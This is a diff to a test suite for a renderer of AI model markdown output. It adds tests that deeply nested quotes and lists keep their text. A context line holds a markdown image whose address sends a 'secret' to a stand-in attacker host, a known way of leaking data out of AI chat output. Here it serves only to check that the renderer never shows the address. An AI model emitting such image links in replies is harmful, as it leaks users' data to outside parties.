@@ -14,6 +14,15 @@ describe("a model's markdown", () => {
     expect(html).toContain("&lt;");
   });
 
+  it.each([
+    ["quotations", `${"> ".repeat(300)}the text\n> ${"> ".repeat(299)}goes on`],
+    ["lists", `${"- ".repeat(300)}the text\n${"  ".repeat(300)}goes on`],
+  ])("loses nothing of what stands in the deepest %s", (_what, source) => {
+    const html = markdownHtml(source);
+    expect(html).toContain("the text");
+    expect(html).toContain("goes on");
+  });
+
   it("shows a picture's words and never its address", () => {
     const html = markdownHtml(
       "![a secret](https://evil.example/?d=secret) and ![x][1]\n\n[1]: https://evil.example/y",
